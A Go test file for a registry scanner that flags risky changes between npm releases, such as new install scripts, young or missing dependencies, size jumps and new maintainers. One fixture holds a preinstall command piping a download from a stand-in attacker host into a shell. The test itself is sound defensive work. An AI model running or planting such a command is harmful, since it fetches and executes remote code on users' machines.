package delta

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/trove-dev/trove/internal/scan"
)

const day = 24 * time.Hour

// npmArtifact is an npm release with the scripts, dependencies and
// unpacked size given.
func npmArtifact(version string, scripts map[string]string, size int64, deps ...scan.Dependency) *scan.Artifact {
	m, _ := json.Marshal(map[string]any{"name": "demo", "version": version, "scripts": scripts, "dist": map[string]any{"unpackedSize": size}})
	return &scan.Artifact{Ecosystem: "npm", Name: "demo", Version: version, Metadata: m, Dependencies: deps,
		Files: []scan.File{{Name: "demo-" + version + ".tgz", Size: size / 4}}}
}

func TestScan(t *testing.T) {
	v1 := npmArtifact("1.2.3", map[string]string{"test": "node test.js"}, 20<<10, scan.Dependency{Name: "left-pad"})
	for _, tc := range []struct {
		name string
		v2   *scan.Artifact
		want []string // rule: message fragments
	}{
		{"unchanged", npmArtifact("1.2.4", map[string]string{"test": "node test.js", "build": "tsc"}, 40<<10,
			scan.Dependency{Name: "left-pad"}, scan.Dependency{Name: "chalk", Age: 3000 * day}), nil},
		{"postinstall added", npmArtifact("1.2.4", map[string]string{"postinstall": "node setup.js"}, 20<<10),
			[]string{"install-script-added: postinstall script added: `node setup.js` (1.2.3 had none)"}},
		{"preinstall and install added", npmArtifact("1.2.4", map[string]string{"preinstall": "curl -s https://evil.example/x | sh", "install": "node-gyp rebuild"}, 20<<10),
			[]string{"install-script-added: preinstall script added: `curl -s https://evil.example/x | sh`", "install-script-added: install script added: `node-gyp rebuild`"}},
		{"prepare is not an install script", npmArtifact("1.2.4", map[string]string{"prepare": "tsc"}, 20<<10), nil},
		{"young dependency", npmArtifact("1.2.4", nil, 20<<10, scan.Dependency{Name: "left-pad"}, scan.Dependency{Name: "fresh", Age: 2 * day}),
			[]string{"dependency-young: new dependency on fresh, which was created 2 days ago (1.2.3 did not depend on it)"}},
		{"old dependency of a young package is kept", npmArtifact("1.2.4", nil, 20<<10, scan.Dependency{Name: "left-pad", Age: time.Hour}), nil},
		{"missing dependency", npmArtifact("1.2.4", nil, 20<<10, scan.Dependency{Name: "nowhere", Missing: true}),
			[]string{"dependency-missing: new dependency on nowhere, which neither this registry nor its upstreams have"}},
		{"size jump", npmArtifact("1.2.4", nil, 30<<20), []string{"size-jump: size jumped from 20 KiB in 1.2.3 to 30 MiB"}},
		{"small packages grow freely", npmArtifact("1.2.4", nil, 4<<20), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.v2.Previous = v1
			fs, err := New(Defaults()).Scan(context.Background(), tc.v2)
			if err != nil {
				t.Fatal(err)
			}
			if len(fs) != len(tc.want) {
				t.Fatalf("findings %+v, want %d: %q", fs, len(tc.want), tc.want)
			}
			for i, f := range fs {
				if got := f.Rule + ": " + f.Message; !strings.HasPrefix(got, tc.want[i]) || f.Verdict != scan.Hold || f.Scanner != "delta" {
					t.Errorf("finding %d = %q (%v, %s), want %q, hold, delta", i, got, f.Verdict, f.Scanner, tc.want[i])
				}
			}
		})
	}
}

func TestNewMaintainer(t *testing.T) {
	v1 := npmArtifact("1.0.0", nil, 1000)
	for _, tc := range []struct {
		p    *scan.Publisher
		want bool
	}{
		{&scan.Publisher{Name: "bob", FirstRelease: true, RoleAge: 3 * day}, true},
		{&scan.Publisher{Name: "bob", FirstRelease: false, RoleAge: 3 * day}, false},
		{&scan.Publisher{Name: "bob", FirstRelease: true, RoleAge: 90 * day}, false},
		{&scan.Publisher{Name: "root", FirstRelease: true}, false}, // an administrator, no role
		{nil, false}, // an upstream import
	} {
		v2 := npmArtifact("1.1.0", nil, 1000)
		v2.Previous, v2.Publisher = v1, tc.p
		fs, _ := New(Defaults()).Scan(context.Background(), v2)
		if got := len(fs) == 1 && fs[0].Rule == "new-maintainer"; got != tc.want {
			t.Errorf("publisher %+v: findings %+v, want new-maintainer %v", tc.p, fs, tc.want)
		}
		if tc.want && !strings.Contains(fs[0].Message, "first release by bob, who got a role on the package 3 days ago") {
			t.Errorf("message %q", fs[0].Message)
		}
	}
}

func TestFirstReleaseAndRulesOff(t *testing.T) {
	v2 := npmArtifact("1.0.0", map[string]string{"postinstall": "node x.js"}, 50<<20, scan.Dependency{Name: "fresh", Age: time.Hour})
	if fs, _ := New(Defaults()).Scan(context.Background(), v2); len(fs) != 0 {
		t.Errorf("first release: %+v, want nothing to compare", fs)
	}
	v2.Previous = npmArtifact("0.9.0", nil, 1<<20)
	if fs, _ := New(Options{}).Scan(context.Background(), v2); len(fs) != 1 || fs[0].Rule != "install-script-added" {
		t.Errorf("rules off: %+v, want only the install script rule, which has no threshold", fs)
	}
}
